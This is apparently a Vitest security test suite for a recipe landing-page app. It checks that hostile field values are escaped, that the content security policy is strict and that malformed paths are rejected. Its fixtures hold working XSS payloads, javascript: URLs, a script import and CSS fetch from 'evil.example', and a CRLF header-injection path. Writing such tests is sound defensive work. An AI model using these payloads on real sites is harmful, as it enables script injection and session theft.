import { createHash } from 'node:crypto';
import { beforeAll, describe, expect, test } from 'vitest';
import { startTestApp } from '../support/app.ts';
import { elements, visibleText, withScripts } from '../support/html.ts';
import { aFaq, aFeature, aLandingPage, aRecipe, aReview } from '../support/rows.ts';

const app = await startTestApp();

const markup = '<script>alert(1)</script><img src=x onerror=alert(2)>';
const hostile = {
  markup,
  breakout: '</script></title></style></textarea>--><svg onload=alert(3)>',
  framework:
    '<script type="module" async="">import "https://evil.example/x.js"</script><link rel="modulepreload" href="x"/>',
  quotes: `"'\`; onmouseover="alert(4)" style="position:fixed" x='`,
  separators: 'line\u2028paragraph\u2029nul\ufffd\\u003cb\\x3e</script',
  direction: '\u202eright to left override \u200f שלום مرحبا',
  pictographs: '👩‍🍳🍋🇲🇽'.repeat(20),
  long: 'Supercalifragilistic'.repeat(250),
  template: `{{7*7}} \${7*7} <%= 7*7 %> %3Cscript%3E &lt;b&gt; &amp;amp;`,
};
const everything = Object.values(hostile).join(' | ');

interface Served {
  html: string;
  policy: string;
}
const served: Record<string, Served> = {};

async function fetchPage(path: string): Promise<Served> {
  const answer = await app.get(path);
  expect(answer.status).toBe(200);
  return { html: await answer.text(), policy: answer.headers.get('content-security-policy')! };
}

beforeAll(async () => {
  const page = await aLandingPage(app.db, {
    subdomain: 'hostile',
    name: everything,
    payoff: everything,
    callToAction: everything,
    accentColor: 'red;}body{background:url(//evil.example)}</style><script>alert(5)</script>',
    logo: 'javascript:alert(6)',
    favicon: 'data:text/html,<script>alert(7)</script>',
    cookName: everything,
    cookWords: everything,
    cookPortrait: `https://pictures.example/'"><script>alert(11)</script>`,
    cookSignature: 'javascript:alert(12)',
    instagramUrl: 'javascript:alert(13)',
    tiktokUrl: `https://social.example/"onclick="alert(14)`,
    linkedinUrl: '//social.example/',
    ctaImage: `https://pictures.example/"onerror="alert(8)"><script>alert(9)</script>`,
  });
  await aReview(app.db, page.id, { body: everything, firstName: everything, dish: everything });
  await aFaq(app.db, page.id, { question: everything, answer: everything });
  await aFeature(app.db, page.id, { body: everything, image: 'http://pictures.example/plain.jpg' });
  await aRecipe(app.db, page.creatorId, { name: everything, imageUrl: 'javascript:alert(10)' });
  served.hostile = await fetchPage('/hostile');

  await aLandingPage(app.db, { subdomain: 'kind', name: 'Kind' });
  for (const path of ['/kind', '/', '/welcome', '/privacy-policy', '/terms-and-conditions']) {
    served[path] = await fetchPage(path);
  }
});

const normalise = (text: string) => text.replace(/\s+/g, ' ').trim();

const isData = ({ type = '' }: Record<string, string>) => type.endsWith('json');

describe('hostile content', () => {
  test('is shown as text everywhere', () => {
    const shown = visibleText(served.hostile!.html).map(normalise);
    // Name, payoff, call to action, a review with name and dish, question, answer, feature, recipe, the cook's
    // portrait, and the cook's name twice.
    expect(shown.filter((piece) => piece === normalise(everything))).toHaveLength(13);
  });

  test('creates no element: the page has the same scripts as a harmless one', () => {
    const kinds = ({ html }: Served) =>
      elements(html, 'script').map(({ attributes }) => attributes.type ?? attributes.src ?? 'inline');
    expect(kinds(served.hostile!)).toEqual(kinds(served['/kind']!));
    expect(elements(served.hostile!.html, 'svg').some(({ attributes }) => 'onload' in attributes)).toBe(false);
  });

  test('creates no attribute', () => {
    for (const name of ['img', 'a', 'p', 'h1', 'h2', 'h3', 'link', 'meta', 'div', 'section', 'span']) {
      for (const { attributes } of elements(served.hostile!.html, name)) {
        expect(Object.keys(attributes).filter((key) => /^on/i.test(key) || key === 'style')).toEqual([]);
      }
    }
  });

  test('creates no address other than https and this site’s own', () => {
    const { html } = served.hostile!;
    const addresses = [
      ...elements(html, 'img').map(({ attributes }) => attributes.src!),
      ...elements(html, 'link').map(({ attributes }) => attributes.href!),
      ...elements(html, 'a').map(({ attributes }) => attributes.href!),
    ];
    for (const address of addresses) expect(address).toMatch(/^(https:\/\/|\/(?!\/)|#)/);
  });

  test('a hostile colour, logo and favicon fall back', () => {
    const { html } = served.hostile!;
    expect(elements(withScripts(html), 'style').map(({ inside }) => inside)).toEqual([
      expect.stringMatching(/^:root\{(--[a-z-]+:#[0-9a-f]{6};?){10}\}$/),
    ]);
    expect(html).toContain('src="/fallback/logo.svg"');
    expect(html).toContain('<link rel="icon" href="/favicon.png"/>');
    expect(html).toContain('src="/fallback/recipe.svg"');
  });

  test('cannot end the structured data, which stays readable', () => {
    const [block, ...others] = elements(served.hostile!.html, 'script').filter(
      ({ attributes }) => attributes.type === 'application/ld+json',
    );
    expect(others).toEqual([]);
    expect(JSON.stringify(JSON.parse(block!.inside))).toContain('onerror=alert(2)');
    expect(block!.inside).not.toContain('<');
  });

  test('cannot end the element that carries the page’s data, which the app still reads', () => {
    const [data, ...others] = elements(served.hostile!.html, 'script').filter(
      ({ attributes }) => attributes.type === 'application/json',
    );
    expect(others).toEqual([]);
    expect(data!.inside).not.toContain('<');
    expect(JSON.stringify(JSON.parse(data!.inside))).toContain('onerror=alert(2)');
  });

  test('is not part of any script', () => {
    for (const { attributes, inside } of elements(served.hostile!.html, 'script')) {
      if (!isData(attributes)) expect(inside).not.toContain('alert');
    }
  });

  test('with NUL or half a pictograph in an address is not found, and nothing breaks', async () => {
    for (const path of [
      '/hostile%00',
      '/%00',
      '/%ED%A0%BD',
      '/hostile%0d%0aset-cookie:x',
      "/hostile'--",
      '/<script>',
    ]) {
      const { status, headers, bytes } = await app.raw(path);
      expect([path, [400, 404].includes(status)]).toEqual([path, true]);
      expect(headers['set-cookie']).toBeUndefined();
      expect(bytes.toString()).not.toContain('<script>alert');
    }
  });
});

describe.each(['hostile', '/kind', '/', '/welcome', '/privacy-policy', '/terms-and-conditions'])(
  'the page %s',
  (path) => {
    const directive = (name: string) =>
      served[path]!.policy.split('; ')
        .find((each) => each.startsWith(`${name} `))!
        .split(' ')
        .slice(1);
    const hash = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`;

    test('has a policy that allows exactly its inline scripts and styles', () => {
      const { html } = served[path]!;
      const scripts = elements(html, 'script')
        .filter(({ attributes }) => !attributes.src && !isData(attributes))
        .map(({ inside }) => hash(inside));
      const styles = elements(html, 'style').map(({ inside }) => hash(inside));
      expect(scripts.length).toBeGreaterThan(2);
      expect(new Set(directive('script-src'))).toEqual(new Set(["'self'", ...scripts]));
      expect(new Set(directive('style-src').filter(Boolean))).toEqual(new Set(["'self'", ...styles]));
    });

    test('has no unsafe source, no style attribute and no handler', () => {
      const { html, policy } = served[path]!;
      expect(policy).not.toMatch(/unsafe-|\*|data:|http:/);
      const tags = html.replace(/<(script|style)\b[^>]*>[\s\S]*?<\/\1>/g, '').match(/<[a-z][^>]*>/gi)!;
      for (const tag of tags) {
        const names = tag.replace(/="[^"]*"/g, '');
        expect(names).not.toMatch(/\s(style|on[a-z]+)\b/i);
      }
    });

    test('starts no script before the late loader does', () => {
      const { html } = served[path]!;
      expect(html).not.toMatch(/rel="modulepreload"|type="module"|<script[^>]*\ssrc=/);
      expect(html).not.toMatch(/rel="preload"[^>]*as="script"|as="script"[^>]*rel="preload"/);
      expect(html.match(/<script type="text\/later">/g)).toHaveLength(1);
      expect(html).toMatch(/<link rel="later" href="\/assets\/[^"]+\.js"/);
      const loader = elements(html, 'script').find(({ inside }) => inside.includes('text/later'));
      expect(loader?.inside).toContain('requestIdleCallback');
    });
  },
);
